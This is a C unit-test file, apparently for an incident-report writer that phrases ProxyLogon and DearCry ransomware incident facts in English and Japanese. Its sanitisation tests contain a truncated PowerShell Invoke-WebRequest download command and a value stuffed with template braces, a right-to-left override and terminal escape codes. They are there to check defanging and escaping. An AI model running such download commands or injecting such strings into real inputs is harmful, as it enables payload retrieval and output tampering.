/* Phrases, knowledge and sayings: every key that can be asked for is there in both languages, every sentence
 * closes its brackets with all facts and with hardly any, and the words come out as a reader expects. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "analyst/knowledge/knowledge.h"
#include "analyst/knowledge/sayings.h"
#include "templates/phrases.h"

static struct arena *arena;
static struct phrases *phrases;
static struct knowledge *knowledge;
static struct sayings sayings;

static int set_up(void **state)
{
	struct fault f = { 0 };

	(void)state;
	arena = arena_new();
	if (phrases_load(&phrases, "templates", &f) < 0 || knowledge_load(&knowledge, "templates/knowledge", &f) < 0 ||
	    sayings_load(&sayings, "templates/knowledge", arena, &f) < 0) {
		fprintf(stderr, "%s\n", f.text);
		return -1;
	}
	return 0;
}

static int tear_down(void **state)
{
	(void)state;
	knowledge_free(knowledge);
	phrases_free(phrases);
	arena_free(arena);
	return 0;
}

/* A beat that knows everything a phrase may ask for. */
static struct beat full_beat(const char *key, enum part part)
{
	static const char *const sites[] = { "telegra.ph", "od.lk" };
	struct beat b = { .key = key, .part = part, .evidence = part == PART_STORY ? 3 : 0 };
	instant t = INT64_C(1615421524) * SECOND;
	const struct fact facts[] = {
		{ .name = "opening", .kind = FACT_PHRASE, .text = "opening.first" },
		{ .name = "time", .kind = FACT_TIME, .value = t },
		{ .name = "host", .kind = FACT_HOST, .text = "EXCH01" },
		{ .name = "subject", .kind = FACT_HOST, .text = "EXCH01" },
		{ .name = "attacker", .kind = FACT_NAME, .text = "203.0.113.45" },
		{ .name = "site", .kind = FACT_NAME, .text = "od.lk" },
		{ .name = "file", .kind = FACT_CODE, .text = "c103w-a.zip" },
		{ .name = "user", .kind = FACT_CODE, .text = "svc-backup" },
		{ .name = "process", .kind = FACT_CODE, .text = "cmd.exe" },
		{ .name = "threat", .kind = FACT_TEXT, .text = "ProxyLogon" },
		{ .name = "ransom", .kind = FACT_TEXT, .text = "DearCry" },
		{ .name = "id", .kind = FACT_TEXT, .text = "CVE-2021-26855" },
		{ .name = "count", .kind = FACT_NUMBER, .value = 12 },
		{ .name = "targets", .kind = FACT_NUMBER, .value = 9 },
		{ .name = "bytes", .kind = FACT_BYTES, .value = 2404581920 },
		{ .name = "interval", .kind = FACT_SPAN, .value = 56 * SECOND },
		{ .name = "span", .kind = FACT_SPAN, .value = 40 * MINUTE },
		{ .name = "gap", .kind = FACT_SPAN, .value = 66 * HOUR },
		{ .name = "first", .kind = FACT_TIME, .value = t },
		{ .name = "when", .kind = FACT_TIME, .value = t },
		{ .name = "again", .kind = FACT_TIME, .value = t + 66 * HOUR },
		{ .name = "start", .kind = FACT_TIME, .value = t - 3 * DAY },
		{ .name = "reach", .kind = FACT_TIME, .value = t - 30 * DAY },
		{ .name = "days", .kind = FACT_NUMBER, .value = 7 },
		{ .name = "newcomer", .kind = FACT_NAME, .text = "od.lk" },
		{ .name = "unmet", .kind = FACT_SPAN, .value = 3 * DAY },
		{ .name = "product", .kind = FACT_TEXT, .text = "Darktrace" },
		{ .name = "channels", .kind = FACT_LIST, .item_kind = FACT_NAME, .items = sites, .item_count = 2 },
	};

	b.facts = memcpy(ARENA_ARRAY(arena, struct fact, sizeof(facts) / sizeof(facts[0]) + 1), facts, sizeof(facts));
	b.fact_count = sizeof(facts) / sizeof(facts[0]);
	return b;
}

static const char *told(const struct beat *b, enum language lang, enum register_ reg)
{
	struct narrative n = { "INC", b, 1 };
	size_t count;
	const struct sentence *s = story_sentences(phrases, lang, reg, &n, b->part, NULL, arena, &count);

	return count > 0 ? sentence_plain(&s[0], arena) : "";
}

static void assert_clean(const char *key, const char *s)
{
	static const char *const leftovers[] = { "{", "}", "〈", "〉", "|", "  ", " ,", " .", "? ", "! ", "、、", "。、", NULL };

	for (size_t i = 0; leftovers[i] != NULL; i++)
		if (strstr(s, leftovers[i]) != NULL)
			fail_msg("%s: '%s' in: %s", key, leftovers[i], s);
	if (s[0] == '\0')
		fail_msg("%s: nothing is told", key);
}

static void assert_both_languages(const struct beat *b)
{
	assert_clean(b->key, told(b, LANGUAGE_EN, REGISTER_CUSTOMER));
	assert_clean(b->key, told(b, LANGUAGE_JA, REGISTER_CUSTOMER));
	assert_clean(b->key, told(b, LANGUAGE_JA, REGISTER_WEEKLY));
}

static void every_behaviour_can_be_told(void **state)
{
	static const char *const untold[] = { "decoder", "update", "restated", "unknown", NULL };
	FILE *in = fopen("templates/knowledge/behaviours.xml", "r");
	char line[512], key[64];
	size_t found = 0;

	(void)state;
	assert_non_null(in);
	while (fgets(line, sizeof(line), in) != NULL) {
		const char *at = strstr(line, "<behaviour key=\"");
		bool skip = false;

		if (at == NULL || sscanf(at, "<behaviour key=\"%63[^\"]", key) != 1)
			continue;
		for (size_t i = 0; untold[i] != NULL; i++)
			skip |= strcmp(untold[i], key) == 0;
		if (skip)
			continue;
		found++;
		{
			struct beat b = full_beat(arena_printf(arena, "story.%s", key), PART_STORY);
			struct sentence label;

			assert_non_null(phrase_find(phrases, b.key));
			assert_both_languages(&b);
			if (strstr(line, "calls=\"yes\"") != NULL) {     /* a pace that is known is told */
				assert_non_null(strstr(told(&b, LANGUAGE_EN, REGISTER_WEEKLY), "56 s"));
				assert_non_null(strstr(told(&b, LANGUAGE_JA, REGISTER_WEEKLY), "56秒"));
			}
			label = story_label(phrases, LANGUAGE_JA, &b, NULL, arena);
			assert_clean(b.key, sentence_plain(&label, arena));
		}
	}
	fclose(in);
	assert_true(found > 40);
}

static void every_saying_has_its_words(void **state)
{
	(void)state;
	assert_true(sayings.count > 40);
	for (size_t i = 0; i < sayings.count; i++) {
		struct beat b = full_beat(sayings.rows[i].key, sayings.rows[i].part);

		/* Facts that only some incidents have and that full_beat has no room for. */
		b.facts[b.fact_count - 2] = (struct fact){ .name = "machines", .kind = FACT_NUMBER, .value = 3 };
		if (strstr(b.key, "block") != NULL || strstr(b.key, "title.c2") != NULL || strstr(b.key, "title.command-channel") != NULL)
			b.facts[b.fact_count - 1].name = "sites";
		if (strstr(b.key, "action.refuse") != NULL)
			b.facts[b.fact_count - 1].name = "places";
		if (strstr(b.key, "action.keep-out") != NULL)
			b.facts[b.fact_count - 1].name = "outsiders";
		if (strstr(b.key, "title.spread") != NULL)
			b.facts[b.fact_count - 1] = (struct fact){ .name = "origin", .kind = FACT_HOST, .text = "WKS-1" };
		if (strstr(b.key, "own-analysis") != NULL)
			b.facts[b.fact_count - 1].name = "analysts";
		assert_non_null(phrase_find(phrases, b.key));
		assert_both_languages(&b);
	}
}

static void a_beat_without_facts_is_still_a_sentence(void **state)
{
	size_t count;
	const struct phrase *list = phrases_list(phrases, &count);

	(void)state;
	for (size_t i = 0; i < count; i++) {
		struct fact facts[5];
		struct beat b = { .key = list[i].key, .part = PART_STORY, .facts = facts, .fact_count = 5 };
		const struct beat full = full_beat("", PART_STORY);

		if (strncmp(list[i].key, "story.", 6) != 0)
			continue;
		memcpy(facts, full.facts, 4 * sizeof(facts[0]));
		facts[4] = full.facts[12];
		assert_both_languages(&b);
	}
}

static void a_sentence_reads_as_an_analyst_writes(void **state)
{
	struct beat b = full_beat("story.disguised-file", PART_STORY);

	(void)state;
	assert_string_equal(told(&b, LANGUAGE_EN, REGISTER_CUSTOMER),
	                    "At 00:12:04 UTC on 11 March, EXCH01 fetched c103w-a.zip from od[.]lk; in spite of its "
	                    "name, it is a program [E3].");
	assert_string_equal(told(&b, LANGUAGE_JA, REGISTER_CUSTOMER),
	                    "3月11日 00:12:04(UTC)、EXCH01がod[.]lkからc103w-a.zipを取得しました。名前に反し、中身は実行ファイルです[E3]。");
	assert_string_equal(told(&b, LANGUAGE_JA, REGISTER_WEEKLY),
	                    "3月11日 00:12:04(UTC)、EXCH01がod[.]lkからc103w-a.zipを取得した。名前に反し、中身は実行ファイルである[E3]。");
}

/* Whole where it has been told before; of a Japanese name half as many characters fit. */
static void a_long_name_keeps_its_beginning_and_its_end(void **state)
{
	static const struct { const char *part; size_t times; const char *kept; } names[] = {
		{ "abcdefghi-", 20, "abcdefghi-abcdefghi-abcdefghi-abcdefghi-abcdefghi-abcd\xE2\x80\xA6" "fghi-abcdefghi-abcdefghi-PC-17" },
		{ "経理部", 30, "経理部経理部経理部経理部経理部経理部経理部経理部経理部\xE2\x80\xA6経理部経理部経理部経理部PC-17" },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		char name[400] = "";
		struct fact host = { .name = "host", .kind = FACT_HOST, .text = name };
		struct fact what = { .name = "what", .kind = FACT_HOST, .text = name };

		for (size_t k = 0; k < names[i].times; k++)
			strcat(name, names[i].part);
		strcat(name, "PC-17");
		assert_string_equal(word_with(phrases, LANGUAGE_EN, "weekly.lead", &what, 1, NULL, arena), arena_printf(arena, "%s.", name));
		assert_non_null(strstr(word_with(phrases, LANGUAGE_EN, "respond.isolate", &host, 1, NULL, arena), names[i].kept));
	}
}

static void hostile_values_stay_values(void **state)
{
	struct beat b = full_beat("story.disguised-file", PART_STORY);
	const char *s;

	(void)state;
	for (size_t i = 0; i < b.fact_count; i++)
		if (strcmp(b.facts[i].name, "file") == 0)
			b.facts[i].text = "{host}[x]〈a|b〉\xE2\x80\xAE\x1b[31m";
	s = told(&b, LANGUAGE_EN, REGISTER_CUSTOMER);
	assert_non_null(strstr(s, "{host}[x]〈a|b〉<U+202E><U+001B>[31m"));
}

/* Also where it was cut off in the middle of a name. */
static void a_link_in_a_command_is_broken_and_the_rest_is_left(void **state)
{
	const struct fact command[] = { { .name = "value", .kind = FACT_CODE,
		.text = "powershell.exe -C \"Invoke-WebRequest -Uri http://microsoftsoftwaredownload...." } };
	const struct fact file[] = { { .name = "value", .kind = FACT_CODE, .text = "c103w-a.zip" } };

	(void)state;
	for (int lang = 0; lang < LANGUAGES; lang++) {
		const char *s = word_with(phrases, (enum language)lang, "customer.value", command, 1, NULL, arena);

		assert_null(strstr(s, "http://"));
		assert_non_null(strstr(s, "powershell.exe -C"));
		assert_string_equal(word_with(phrases, (enum language)lang, "customer.value", file, 1, NULL, arena), "c103w-a.zip");
	}
}

static void a_range_says_once_what_both_ends_share(void **state)
{
	const struct zone *z;
	struct zone tokyo;
	const enum language en = LANGUAGE_EN, ja = LANGUAGE_JA;
	const instant t = INT64_C(1615421524) * SECOND, midnight = t - 9 * HOUR - 12 * MINUTE - 4 * SECOND;

	(void)state;
	assert_int_equal(zone_load(&tokyo, "Asia/Tokyo", &(struct fault){ 0 }), 0);
	z = &tokyo;
	assert_string_equal(story_range(en, t, t + HOUR, z, WHEN_DAY_TIME, arena), "11 Mar 09:12:04 – 10:12:04");
	assert_string_equal(story_range(ja, t, t + HOUR, z, WHEN_DAY_TIME, arena), "3月11日 09:12:04〜10:12:04");
	assert_string_equal(story_range(en, t, t + 3 * DAY, z, WHEN_DAY_TIME, arena), "11 Mar 09:12:04 – 14 Mar 09:12:04");
	assert_string_equal(story_range(ja, t, t + 3 * DAY, z, WHEN_DAY_TIME, arena), "3月11日 09:12:04〜3月14日 09:12:04");
	assert_string_equal(story_range(en, t, t + HOUR, z, WHEN_FULL, arena), "11 Mar 2021 09:12:04 – 10:12:04 JST");
	assert_string_equal(story_range(ja, t, t + 3 * DAY, z, WHEN_FULL, arena), "2021年3月11日 09:12:04〜2021年3月14日 09:12:04 JST");
	assert_string_equal(story_range(ja, t, t + SECOND / 2, z, WHEN_DAY_TIME, arena), "3月11日 09:12:04");
	assert_string_equal(story_range(ja, t, INSTANT_NONE, z, WHEN_DAY_TIME, arena), "3月11日 09:12:04");
	assert_string_equal(story_days(en, midnight, midnight + 4 * DAY, z, arena), "11–14 March 2021");
	assert_string_equal(story_days(ja, midnight, midnight + 4 * DAY, z, arena), "2021年3月11日〜14日");
	assert_string_equal(story_days(ja, midnight, midnight + DAY, z, arena), "2021年3月11日");
	assert_string_equal(story_days(en, midnight, midnight + 30 * DAY, z, arena), "11 March – 9 April 2021");
	assert_string_equal(story_days(ja, midnight, midnight + 30 * DAY, z, arena), "2021年3月11日〜4月9日");
	assert_string_equal(story_days(ja, midnight - 100 * DAY, midnight, z, arena), "2020年12月1日〜2021年3月10日");
	zone_free(&tokyo);
}

/* As a narrative has it: an opening and its time, no zone yet. */
static struct beat timed_beat(const char *opening, instant at)
{
	struct beat b = full_beat("story.web-attack", PART_STORY);

	b.at = at;
	b.facts[0].text = opening;
	b.facts[1].value = at;
	b.facts[b.fact_count - 1] = (struct fact){ .name = "telling", .kind = FACT_NUMBER, .value = 1 };
	return b;
}

static bool opens_with(const struct sentence *s, const char *words)
{
	return strncmp(sentence_plain(s, arena), words, strlen(words)) == 0;
}

static void a_clock_time_of_another_day_names_the_day(void **state)
{
	const instant evening = INT64_C(1615421524) * SECOND + 13 * HOUR;       /* 13:12 UTC, 22:12 in Tokyo */
	struct beat beats[] = { timed_beat("opening.first", evening), timed_beat("opening.at", evening + 3 * HOUR),
	                        timed_beat("opening.at", evening + 4 * HOUR) };
	const struct narrative n = { .beats = beats, .beat_count = 3 };
	const struct zone utc = { .name = "UTC" };
	const struct sentence *s;
	struct zone tokyo;
	size_t count;

	(void)state;
	assert_int_equal(zone_load(&tokyo, "Asia/Tokyo", &(struct fault){ 0 }), 0);
	s = story_sentences(phrases, LANGUAGE_JA, REGISTER_WEEKLY, &n, PART_STORY, &utc, arena, &count);
	assert_int_equal(count, 3);
	assert_true(opens_with(&s[1], "16:12:04、"));
	s = story_sentences(phrases, LANGUAGE_JA, REGISTER_WEEKLY, &n, PART_STORY, &tokyo, arena, &count);
	assert_true(opens_with(&s[1], "3月12日 01:12:04、"));
	assert_true(opens_with(&s[2], "02:12:04、"));
	assert_ptr_equal(s[1].beat, &beats[1]);
	zone_free(&tokyo);
}

/* The summary of a report comes before its story. */
static void a_brief_story_leaves_the_long_one_as_it_was(void **state)
{
	const instant t = INT64_C(1615421524) * SECOND;
	struct beat beats[] = { timed_beat("opening.first", t), timed_beat("opening.after", t + MINUTE) };
	const struct narrative n = { .beats = beats, .beat_count = 2 };
	const struct zone utc = { .name = "UTC" };
	const struct sentence *s;
	const char *before;
	size_t count;

	(void)state;
	beats[1].facts[beats[1].fact_count++] = (struct fact){ .name = "after", .kind = FACT_SPAN, .value = MINUTE };
	s = story_sentences(phrases, LANGUAGE_JA, REGISTER_WEEKLY, &n, PART_STORY, &utc, arena, &count);
	before = sentence_plain(&s[1], arena);
	assert_true(opens_with(&s[1], "その1分後、"));
	s = story_brief(phrases, LANGUAGE_JA, REGISTER_WEEKLY, &n, 2, &utc, arena, &count);
	assert_true(opens_with(&s[1], "00:13:04、"));
	s = story_sentences(phrases, LANGUAGE_JA, REGISTER_WEEKLY, &n, PART_STORY, &utc, arena, &count);
	assert_string_equal(sentence_plain(&s[1], arena), before);
}

static const char *plain_pattern(const char *pattern, const struct fact *fa)
{
	struct sentence s = pattern_filled(phrases, LANGUAGE_JA, REGISTER_WEEKLY, pattern, fa, 1, NULL, arena);

	return sentence_plain(&s, arena);
}

static void whole_days_join_what_follows(void **state)
{
	const struct fact span = { .name = "span", .kind = FACT_SPAN, .value = 3 * DAY };

	(void)state;
	assert_string_equal(plain_pattern("{span}後に", &span), "3日後に");
	assert_string_equal(plain_pattern("{span}間隔の", &span), "3日間隔の");
	assert_string_equal(plain_pattern("{span}の記録", &span), "3日間の記録");
}

static void spans_and_counts(void **state)
{
	(void)state;
	assert_string_equal(story_span(LANGUAGE_EN, 147 * SECOND, arena), "2 min 27 s");
	assert_string_equal(story_span(LANGUAGE_JA, 147 * SECOND, arena), "2分27秒");
	assert_string_equal(story_span(LANGUAGE_EN, 65 * HOUR, arena), "2 days 17 h");
	assert_string_equal(story_span(LANGUAGE_JA, 65 * HOUR, arena), "2日17時間");
	assert_string_equal(story_span(LANGUAGE_EN, 24 * HOUR, arena), "1 day");
	assert_string_equal(story_count(LANGUAGE_EN, 616161, arena), "616,161");
	assert_string_equal(story_count(LANGUAGE_JA, 616161, arena), "61.6万");
	assert_string_equal(story_count(LANGUAGE_JA, 420004, arena), "42万");
	assert_string_equal(story_count(LANGUAGE_JA, 19600, arena), "2万");
	assert_string_equal(story_count(LANGUAGE_JA, 1284, arena), "1,284");
	assert_string_equal(story_bytes(LANGUAGE_EN, 2404581920, arena), "2.4 GB");
}

static void a_rule_is_known_by_its_words_then_its_technique(void **state)
{
	struct rule named = { "suricata", "1", "ET EXPLOIT Microsoft Exchange SSRF (CVE-2021-26855)", NULL, "T1059", NULL };
	struct rule technique = { "wazuh", "2", "Something happened", NULL, "T1003.001 T1190", NULL };
	struct rule nothing = { "wazuh", "3", "Something happened", NULL, NULL, NULL };

	(void)state;
	assert_string_equal(knowledge_behaviour(knowledge, &named, RECORD_ALERT)->key, "exploit");
	assert_string_equal(knowledge_behaviour(knowledge, &technique, RECORD_ALERT)->family, "exploit");
	assert_string_equal(knowledge_behaviour(knowledge, &nothing, RECORD_ALERT)->key, "unknown");
	assert_string_equal(knowledge_behaviour(knowledge, &named, RECORD_RESPONSE)->key, "response");
	assert_string_equal(knowledge_threat(knowledge, named.name)->name, "ProxyLogon");
	assert_null(knowledge_threat(knowledge, "nothing of the kind"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(every_behaviour_can_be_told),
		cmocka_unit_test(every_saying_has_its_words),
		cmocka_unit_test(a_beat_without_facts_is_still_a_sentence),
		cmocka_unit_test(a_sentence_reads_as_an_analyst_writes),
		cmocka_unit_test(a_long_name_keeps_its_beginning_and_its_end),
		cmocka_unit_test(hostile_values_stay_values),
		cmocka_unit_test(a_link_in_a_command_is_broken_and_the_rest_is_left),
		cmocka_unit_test(a_range_says_once_what_both_ends_share),
		cmocka_unit_test(a_clock_time_of_another_day_names_the_day),
		cmocka_unit_test(a_brief_story_leaves_the_long_one_as_it_was),
		cmocka_unit_test(whole_days_join_what_follows),
		cmocka_unit_test(spans_and_counts),
		cmocka_unit_test(a_rule_is_known_by_its_words_then_its_technique),
	};

	return cmocka_run_group_tests_name("story", tests, set_up, tear_down);
}
